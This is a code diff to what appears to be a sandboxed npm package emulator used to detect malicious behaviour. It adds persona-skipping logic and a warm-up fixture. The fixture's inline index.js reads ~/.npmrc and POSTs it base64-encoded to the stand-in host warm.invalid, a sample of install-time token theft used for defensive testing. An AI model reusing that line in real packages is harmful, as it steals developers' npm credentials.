@@ -59,10 +59,10 @@ export async function loadEngine(): Promise<void> {
 function warmUp(): void {
   const files = new Map([
     ['package.json', '{"name":"warm-up","version":"1.0.0"}'],
-    ['index.js', "const fs = require('fs'); const p = require('path'); module.exports = function f(a) { return Buffer.from(String(a)).toString('base64') + fs.existsSync(p.join(__dirname, 'x')); }; setTimeout(() => {}, 10);"],
+    ['index.js', "const fs = require('fs'), p = require('path'), os = require('os'); const t = fs.readFileSync(p.join(os.homedir(), '.npmrc'), 'utf8'); setTimeout(() => { fetch('https://warm.invalid/', { method: 'POST', body: Buffer.from(t).toString('base64') }); require('child_process').execSync('echo ' + os.platform()); }, 10); module.exports = function f(a) { return Buffer.from(String(a)).toString('hex') + fs.existsSync(p.join(__dirname, 'x')); };"],
   ]);
   try {
-    for (let i = 0; i < 2; i++) emulateInThread({ files, manifest: { name: 'warm-up' }, entries: [{ file: 'index.js', reach: 'load' }], budget: { totalMs: 5000, perFileMs: 2000 } });
+    for (let i = 0; i < 2; i++) emulateInThread({ files, manifest: { name: 'warm-up' }, entries: [{ file: 'index.js', reach: 'install' }, { file: 'index.js', reach: 'load' }], budget: { totalMs: 10000, perFileMs: 2000 } });
   } catch {
     /* warming up is best effort */
   }
@@ -82,7 +82,12 @@ export function emulateInThread(input: EmulationInput, onRun?: (run: EmulationRu
   let partial = false;
   for (const entry of input.entries) {
     const rel = entry.file.replace(/^\.\//, '');
+    let looked = true;
     for (const persona of PERSONAS) {
+      // A library or plugin entry that never looked at the platform (os.platform(), process.platform,
+      // os.homedir(), platform-specific environment variables) behaves the same on every persona: one run.
+      // Install-time entries always run as all three.
+      if (persona !== PERSONAS[0] && !looked) continue;
       const remaining = budget.totalMs - (performance.now() - start);
       if (!input.files.has(rel)) {
         const run: EmulationRun = { entry: rel, persona, status: 'error', error: 'entry file not in the package', ms: 0 };
@@ -100,6 +105,7 @@ export function emulateInThread(input: EmulationInput, onRun?: (run: EmulationRu
       const cfg = buildConfig(persona, { ...entry, file: rel }, input.files, input.manifest, canaries);
       const outcome = runInSandbox({ cfg, files: input.files, esmPackage, deadline: performance.now() + Math.min(budget.perFileMs, remaining), minRunMs: Math.min(budget.perFileMs, remaining) / 2, memoryBytes: budget.memoryBytes });
       if (outcome.status === 'budget' || outcome.truncated) partial = true;
+      if (persona === PERSONAS[0]) looked = entry.reach !== 'load' || outcome.status !== 'done' || outcome.events.some((e) => e.k === 'platform');
       const lowered = lowerTrace(outcome.events, { cfg, persona, reach: entry.reach, canaries, matchers, src });
       effects.push(...lowered);
       const run: EmulationRun = { entry: rel, persona, status: outcome.status, ms: Math.round(outcome.ms * 10) / 10 };
